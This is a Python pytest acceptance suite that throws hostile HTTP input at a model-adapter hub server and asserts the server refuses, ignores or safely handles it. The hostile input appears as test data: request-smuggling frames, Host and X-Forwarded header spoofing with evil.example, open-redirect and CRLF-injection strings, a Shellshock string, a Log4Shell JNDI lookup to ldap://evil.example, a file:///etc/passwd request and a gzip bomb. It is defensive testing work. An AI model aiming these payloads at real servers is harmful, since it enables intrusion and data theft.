"""What no HTTP library sends: broken framing, slow and vanishing clients, ranges, and names of hosts."""

from __future__ import annotations

import gzip
import json

import pytest

from tests.acceptance.hostile.conftest import MINE
from tests.acceptance.hostile.wire import Answer, ask, proper, several_answers, speak

pytestmark = pytest.mark.xdist_group("hostile-wire")
POST = f"/api/v1/adapters/{MINE}/missing"


SMUGGLED = "GET /api/v1/whoami HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
FRAMES = {
    "length and chunked": (("Content-Length: 4", "Transfer-Encoding: chunked"), "0\r\n\r\n" + SMUGGLED),
    "chunked and length": (("Transfer-Encoding: chunked", "Content-Length: 4"), "0\r\n\r\n" + SMUGGLED),
    "two lengths": (("Content-Length: 2", "Content-Length: 9"), "{}" + SMUGGLED),
    "two equal lengths": (("Content-Length: 2", "Content-Length: 2"), "{}"),
    "list of lengths": (("Content-Length: 2, 2",), "{}"),
    "negative length": (("Content-Length: -1",), "{}"),
    "length with sign": (("Content-Length: +2",), "{}"),
    "length in hex": (("Content-Length: 0x2",), "{}"),
    "length beyond": (("Content-Length: 99999999999999999999999",), "{}"),
    "empty length": (("Content-Length:",), "{}"),
    "length of letters": (("Content-Length: two",), "{}"),
    "blank before the colon": (("Content-Length : 2",), "{}"),
    "odd encoding": (("Transfer-Encoding: xchunked",), "2\r\n{}\r\n0\r\n\r\n"),
    "two encodings": (("Transfer-Encoding: chunked", "Transfer-Encoding: identity"), "2\r\n{}\r\n0\r\n\r\n"),
    "encoding after chunked": (("Transfer-Encoding: chunked, gzip",), "2\r\n{}\r\n0\r\n\r\n"),
    "tab before chunked": (("Transfer-Encoding:\x0bchunked",), "2\r\n{}\r\n0\r\n\r\n"),
    "size of letters": (("Transfer-Encoding: chunked",), "zz\r\n{}\r\n0\r\n\r\n"),
    "negative size": (("Transfer-Encoding: chunked",), "-2\r\n{}\r\n0\r\n\r\n"),
    "size beyond": (("Transfer-Encoding: chunked",), "fffffffffffffffff\r\n{}\r\n0\r\n\r\n"),
    "size in 0x": (("Transfer-Encoding: chunked",), "0x2\r\n{}\r\n0\r\n\r\n"),
    "chunk too long": (("Transfer-Encoding: chunked",), "2\r\n{}x\r\n0\r\n\r\n"),
    "bare line feeds": (("Transfer-Encoding: chunked",), "2\n{}\n0\n\n"),
    "folded header": (("X-A: b\r\n c", "Content-Length: 2"), "{}"),
    "header without colon": (("Nonsense", "Content-Length: 2"), "{}"),
    "header without name": ((": x", "Content-Length: 2"), "{}"),
    "NUL in a header": (("X-A: a\x00b", "Content-Length: 2"), "{}"),
    "carriage return in a header": (("X-A: a\rb", "Content-Length: 2"), "{}"),
    "header of 200 kB": (("X-A: " + "a" * 200_000, "Content-Length: 2"), "{}"),
    "2,000 headers": ((*(f"X-{i}: a" for i in range(2000)), "Content-Length: 2"), "{}"),
    "address of 100 kB": (("Content-Length: 2",), "{}"),
    "upgrade to websocket": (
        (
            "Connection: Upgrade",
            "Upgrade: websocket",
            "Sec-WebSocket-Version: 13",
            "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
        ),
        "",
    ),
    "upgrade to h2c": (("Connection: Upgrade, HTTP2-Settings", "Upgrade: h2c", "HTTP2-Settings: AAMAAABkAAQAAP__"), ""),
}
READ_AS_THEY_ARE = ("encoding after chunked", "upgrade to websocket", "upgrade to h2c")


@pytest.mark.parametrize("kind", ["garbage", "a handshake of TLS", "no length that is one", "a head of 200 kB"])
def test_what_is_no_request_is_refused_as_everything_else_is(site, kind):
    sent = {
        "garbage": b"\x00\x01\r\n\r\n",
        "a handshake of TLS": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + b"a" * 100,
        "no length that is one": site.head(f"POST {POST} HTTP/1.1", "Content-Length: two") + b"{}",
        "a head of 200 kB": site.head(f"GET {POST} HTTP/1.1", "X-A: " + "a" * 200_000),
    }[kind]
    answer = speak(site.url, sent)
    assert answer.headers["content-type"] == "application/problem+json"
    assert (answer.status, answer.json["code"], answer.json["status"]) == (400, "malformed-request", 400)


def test_what_comes_behind_the_chunks_of_a_body_is_no_header(site):
    """Otherwise it would come past a proxy that decides by the head."""
    chunks = b'c\r\n{"files":[]}\r\n0\r\nAuthorization: Bearer %s\r\nHost: elsewhere\r\n\r\n'
    lines = ["Host: 127.0.0.1", "Transfer-Encoding: chunked", "Connection: close"]
    head = "\r\n".join([f"POST {POST} HTTP/1.1", *lines]).encode() + b"\r\n\r\n"
    assert speak(site.url, head + chunks % site.tokens["mallory"].encode()).status == 401
    signed = "\r\n".join([f"POST {POST} HTTP/1.1", *lines, f"Authorization: Bearer {site.tokens['mallory']}"]).encode()
    assert speak(site.url, signed + b"\r\n\r\n" + chunks % b"another").status == 201


def test_a_body_that_is_packed_is_not_unpacked(site):
    packed = gzip.compress(b"{" + b" " * 50_000_000 + b"}")
    answer = site.ask("POST", POST, body=packed, headers=[("Content-Encoding", "gzip")])
    assert (answer.status, answer.json["code"]) == (422, "invalid-input")
    assert "Content-Encoding 'gzip'" in answer.json["detail"]


def test_a_body_that_is_announced_too_large_is_not_waited_for(site):
    answer = speak(site.url, site.head(f"POST {POST} HTTP/1.1", "Content-Length: 999999999999") + b"{}")
    assert (answer.status, answer.json["code"]) == (413, "too-large")


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("kind", FRAMES)
def test_a_request_whose_end_is_doubtful_is_refused_and_nothing_after_it_is_read(site, kind):
    headers, rest = FRAMES[kind]
    target = POST + "?" + "a" * 100_000 if kind == "address of 100 kB" else POST
    statuses = several_answers(
        site.url, site.head(f"POST {target} HTTP/1.1", *headers) + rest.encode("latin-1"), seconds=3
    )
    assert 200 not in statuses, statuses
    assert not [status for status in statuses if status >= 500], statuses
    assert kind in READ_AS_THEY_ARE or 201 not in statuses or kind in ("tab before chunked",), statuses


TO_THE_PAGES = 303
"""What / answers, however its first line is spelled."""
FIRST_LINES = [
    *(
        "GET",
        "GET /",
        "GET / HTTP/1.1 HTTP/1.1",
        "GET / HTTP/9.9",
        "GET / HTTQ/1.1",
        "GET / http/1.1",
        " GET / HTTP/1.1",
    ),
    *("PRI * HTTP/2.0", "OPTIONS * HTTP/1.1", "CONNECT 127.0.0.1:22 HTTP/1.1", "CONNECT evil.example:443 HTTP/1.1"),
    *("GET http://evil.example/ HTTP/1.1", "GET //evil.example/%2e%2e HTTP/1.1", "GET @evil.example HTTP/1.1"),
    *(
        "GET ?x HTTP/1.1",
        "GET # HTTP/1.1",
        "GET /\x00 HTTP/1.1",
        "GET /\xff HTTP/1.1",
        "GET /\t HTTP/1.1",
        "GET  / HTTP/1.1",
    ),
    *("GET http:// HTTP/1.1", "GET file:///etc/passwd HTTP/1.1", "GET /%zz HTTP/1.1", "GET /%", "\x16\x03\x01\x02\x00"),
]


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("line", FIRST_LINES, ids=ascii)
def test_a_first_line_is_one_or_the_request_is_refused(site, line):
    statuses = several_answers(site.url, site.head(line, "Connection: close"), seconds=1)
    assert all(400 <= status < 500 or status == TO_THE_PAGES for status in statuses), statuses


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("version", ["1.0", "1.1"])
def test_a_request_without_a_host_is_refused(site, version):
    answer = speak(site.url, f"GET /health HTTP/{version}\r\n\r\n".encode())
    assert answer.status in (400, 421)


HOSTS = [
    *(
        "evil.example",
        "evil.example:80",
        "127.0.0.1.evil.example",
        "127.0.0.1@evil.example",
        "127.0.0.1:80@evil.example",
    ),
    *(
        "localhost:80/evil",
        "localhost#evil.example",
        "localhost\tevil",
        "localhost, evil.example",
        "localhost:x",
        "[::1",
        "::1",
    ),
    *(
        "[::1].evil.example",
        "",
        ":80",
        "127.1",
        "0x7f.1",
        "2130706433",
        "localhost.",
        "LOCALHOST.evil",
        "\xe9vil",
        "a" * 3000,
    ),
    *(
        "127.0.0.1:999999999",
        "127.0.0.1:-1",
        "user:pass@127.0.0.1",
        "//127.0.0.1",
        "http://127.0.0.1",
        "[::ffff:127.0.0.1]",
    ),
]


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("host", HOSTS, ids=ascii)
def test_another_name_of_the_host_is_turned_away(site, host):
    for target in ("/health", "/api/v1/adapters", f"/api/models/{MINE}/tree/main"):
        answer = ask(site.url, "GET", target, token=site.tokens["mallory"], headers=[("Host", host)])
        assert answer.status in (400, 421), answer
        assert not {"location", "link", "x-xet-cas-url"} & answer.headers.keys()


@pytest.mark.parametrize("host", ["LOCALHOST", "localhost:1", "127.0.0.1", "[::1]", "[::1]:8321"])
def test_the_names_of_this_machine_are_this_server(site, host):
    assert ask(site.url, "GET", "/health", headers=[("Host", host)]).status == 200


FORWARDED = [
    [("X-Forwarded-Host", "evil.example")],
    [("X-Forwarded-Proto", "https"), ("X-Forwarded-Host", "evil.example"), ("X-Forwarded-Port", "1")],
    [("Forwarded", "host=evil.example;proto=https")],
    [("X-Host", "evil.example"), ("X-Original-Host", "evil.example"), ("X-Forwarded-Server", "evil.example")],
    [("X-Original-URL", "/api/v1/accounts"), ("X-Rewrite-URL", "/api/v1/accounts")],
    [("X-Forwarded-For", "127.0.0.1"), ("X-Real-IP", "127.0.0.1")],
    [("X-Forwarded-Prefix", "//evil.example"), ("X-Script-Name", "//evil.example")],
    [("Referer", "http://evil.example/"), ("Origin", "http://evil.example")],
]


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("headers", FORWARDED, ids=str)
def test_no_header_changes_the_addresses_in_answers(site, headers):
    batch = {"operation": "upload", "objects": [{"oid": "a" * 64, "size": 5}]}
    answers = [
        site.ask("POST", f"/{MINE}.git/info/lfs/objects/batch", body=json.dumps(batch).encode(), headers=headers),
        site.ask("GET", f"/api/models/{MINE}/xet-write-token/main", headers=headers),
        site.ask("GET", "/api/models?limit=1", headers=headers),
        site.ask("GET", f"/{MINE}/resolve/main/README.md", headers=headers),
    ]
    told = b"".join(answer.body + json.dumps(answer.headers).encode() for answer in answers)
    assert b"evil" not in told
    assert site.url.encode() + b"/api/v1/uploads/" in told
    for answer in answers:
        assert "location" not in answer.headers
        assert not [name for name in answer.headers if name.startswith("access-control-")]


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("method", ["GET", "POST", "OPTIONS"])
def test_a_web_page_of_another_origin_is_allowed_nothing(site, method):
    asked = [
        ("Origin", "http://evil.example"),
        ("Access-Control-Request-Method", "DELETE"),
        ("Sec-Fetch-Site", "cross-site"),
    ]
    for target in ("/api/v1/adapters", f"/api/models/{MINE}", "/health"):
        answer = ask(site.url, method, target, headers=asked)
        assert not [name for name in answer.headers if name.startswith("access-control-")]
        assert "set-cookie" not in answer.headers


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize(
    "target",
    [
        "//evil.example/",
        "/\\evil.example",
        "/%5cevil.example",
        "/%2f%2fevil.example",
        "/login?url=//evil.example",
    ],
)
def test_nothing_redirects_elsewhere(site, target):
    for by in ("nobody", "mallory"):
        answer = site.ask("GET", target, by=by)
        assert answer.status in (401, 404)
        assert "location" not in answer.headers
    assert site.ask("GET", "/?next=http://evil.example").headers["location"] == "/ui/adapters"


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize(
    "text", ["%0d%0aX-Injected:%20yes", "%0aX-Injected:%20yes", "%e5%98%8a%e5%98%8dX-Injected:yes", "%00X-Injected:yes"]
)
def test_nothing_of_a_request_becomes_a_header(site, text):
    for target in (
        f"/api/models/{text}",
        f"/api/models/{MINE}/revision/{text}",
        f"/{MINE}/resolve/main/{text}",
        f"/api/models?limit=1&cursor={text}",
        f"/api/v1/adapters/{MINE}/versions/{text}",
        f"/api/v1/{text}",
        f"/{text}",
    ):
        for by in ("nobody", "mallory"):
            assert "x-injected" not in site.ask("GET", target, by=by).headers


RANGES = {
    "many": "bytes=" + ",".join(f"{i}-{i}" for i in range(1000)),
    "overlapping": "bytes=0-,0-,0-,0-,0-",
    "two": "bytes=0-1,4-5",
    "huge": "bytes=0-" + "9" * 400,
    "start huge": "bytes=" + "9" * 400 + "-",
    "both huge": "bytes=" + "9" * 30 + "-" + "9" * 31,
    "suffix 0": "bytes=-0",
    "suffix huge": "bytes=-" + "9" * 400,
    "backwards": "bytes=5-3",
    "past the end": "bytes=99999999-",
    "other unit": "items=0-5",
    "no unit": "0-5",
    "no dash": "bytes=5",
    "dash alone": "bytes=-",
    "empty": "bytes=",
    "superscript": "bytes=\xb2-",
    "negative": "bytes=--5",
    "letters": "bytes=a-b",
    "blanks": "bytes = 0 - 5",
    "fraction": "bytes=0.5-1",
    "commas": "bytes=,,,,,,",
    "in capitals": "BYTES=0-5",
}


IGNORED = ("backwards", "other unit", "no unit", "no dash", "letters", "negative", "commas")


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("kind", IGNORED)
@pytest.mark.parametrize(
    "place",
    [
        f"/{MINE}/resolve/v1/adapter_model.safetensors",
        f"/api/v1/adapters/{MINE}/versions/v1/files/adapter_model.safetensors",
    ],
)
def test_what_is_no_range_of_bytes_is_ignored_as_http_says(site, place, kind):
    answer = ask(site.url, "GET", place, token=site.tokens["mallory"], headers=[("Range", RANGES[kind])])
    assert (answer.status, answer.body) == (200, site.ask("GET", place).body)


@pytest.mark.usefixtures("unchanged")
def test_a_range_past_the_end_is_refused_in_the_form_of_the_protocol_with_the_size(site):
    given = {"token": site.tokens["mallory"], "headers": [("Range", "bytes=99999999-")]}
    hub = ask(site.url, "GET", f"/{MINE}/resolve/v1/adapter_config.json", **given)
    native = ask(site.url, "GET", f"/api/v1/adapters/{MINE}/versions/v1/files/adapter_config.json", **given)
    size = len(site.ask("GET", f"/{MINE}/resolve/v1/adapter_config.json").body)
    assert (hub.status, hub.headers["content-range"]) == (416, f"bytes */{size}")
    assert f"{size:,} bytes" in hub.json["error"]
    assert (native.status, native.json["code"]) == (416, "range-not-satisfiable")
    assert native.headers["content-range"] == f"bytes */{size}"


@pytest.mark.usefixtures("unchanged")
def test_head_and_another_state_of_the_file_get_the_whole(site):
    place, part = f"/{MINE}/resolve/v1/adapter_config.json", ("Range", "bytes=0-3")
    whole, token = site.ask("GET", place), site.tokens["mallory"]
    head = ask(site.url, "HEAD", place, token=token, headers=[part])
    assert (head.status, head.headers["content-length"]) == (200, str(len(whole.body)))
    other = ask(site.url, "GET", place, token=token, headers=[part, ("If-Range", '"of another state"')])
    assert (other.status, other.body) == (200, whole.body)
    same = ask(site.url, "GET", place, token=token, headers=[part, ("If-Range", whole.headers["etag"])])
    assert (same.status, same.body) == (206, whole.body[:4])


@pytest.mark.usefixtures("unchanged")
def test_a_file_that_the_client_has_is_not_sent_again_by_either_protocol(site):
    for place in (
        f"/{MINE}/resolve/v1/adapter_config.json",
        f"/api/v1/adapters/{MINE}/versions/v1/files/adapter_config.json",
    ):
        tag = site.ask("GET", place).headers["etag"]
        again = ask(site.url, "GET", place, token=site.tokens["mallory"], headers=[("If-None-Match", f'"x", {tag}')])
        assert (again.status, again.body, again.headers["etag"]) == (304, b"", tag)


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("kind", RANGES)
@pytest.mark.parametrize(
    "place",
    [
        f"/{MINE}/resolve/v1/adapter_model.safetensors",
        f"/api/v1/adapters/{MINE}/versions/v1/files/adapter_model.safetensors",
    ],
)
def test_a_range_is_served_refused_or_ignored(site, place, kind):
    whole = site.ask("GET", place)
    for method in ("GET", "HEAD"):
        answer = ask(site.url, method, place, token=site.tokens["mallory"], headers=[("Range", RANGES[kind])])
        assert answer.status in (200, 206, 400, 416), answer
        assert len(answer.body) <= len(whole.body)
        if answer.status == 206:
            assert answer.body in whole.body
            assert "multipart" not in answer.headers.get("content-type", "")
        elif answer.status == 200 and method == "GET":
            assert answer.body == whole.body


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize(
    "value", ["", "*", '"', "W/", "\xff", '"' + "a" * 30_000 + '"', '""', ",,,", '"a", "b", *', "x" * 64]
)
@pytest.mark.parametrize("name", ["If-None-Match", "If-Match", "If-Range", "If-Modified-Since", "If-Unmodified-Since"])
def test_conditions_are_met_or_ignored(site, name, value):
    for target in (f"/{MINE}/resolve/v1/adapter_config.json", f"/api/v1/adapters/{MINE}/versions/v1"):
        answer = ask(
            site.url, "GET", target, token=site.tokens["mallory"], headers=[(name, value), ("Range", "bytes=0-1")]
        )
        assert answer.status in (200, 206, 304, 412), answer


ACCEPTED = [
    ("Accept-Encoding", "br;q=1.0, gzip;q=0.8, *;q=0.1, x" * 100),
    ("Accept", "text/html"),
    ("Accept", "\xff"),
    ("Accept-Language", "../../etc/passwd"),
    ("User-Agent", "() { :; }; echo x"),
    ("User-Agent", "${jndi:ldap://evil.example/a}"),
    ("X-Request-Id", "a\tb<script>"),
    ("X-Request-Id", "x" * 5000),
    ("Cookie", "a=" + "b" * 9000),
    ("Expect", "100-continue"),
    ("Expect", "a-miracle"),
    ("Connection", "keep-alive, Authorization"),
    ("TE", "trailers"),
    ("Max-Forwards", "0"),
    ("Content-Type", "\xff/\xfe"),
    ("Content-Length", "0"),
]


@pytest.mark.usefixtures("unchanged")
@pytest.mark.parametrize("header", ACCEPTED, ids=lambda pair: ascii(pair)[:40])
def test_odd_headers_change_nothing(site, header):
    for target in (f"/api/models/{MINE}", f"/api/v1/adapters/{MINE}/versions"):
        answer = site.ask("GET", target, headers=[header])
        assert answer.status == 200
        assert header[1] not in json.dumps(answer.headers) or len(header[1]) < 3


def test_files_are_never_shown_as_pages(site):
    for target in (
        f"/{MINE}/resolve/v1/adapter_config.json",
        f"/api/v1/adapters/{MINE}/versions/v1/files/adapter_config.json",
    ):
        answer = site.ask("GET", target, headers=[("Accept", "text/html")])
        assert answer.headers["content-type"] == "application/octet-stream"
        assert answer.headers["content-disposition"].startswith("attachment")
        assert "sandbox" in answer.headers["content-security-policy"]
        assert answer.headers["cache-control"].startswith("private")


def test_after_all_this_the_server_is_well(site):
    answer = proper(ask(site.url, "GET", "/ready"), "GET", "/ready")
    assert isinstance(answer, Answer)
    assert answer.json == {"status": "ready"}
    log = site.hub.log()
    assert "Traceback" not in log, log[-3000:]
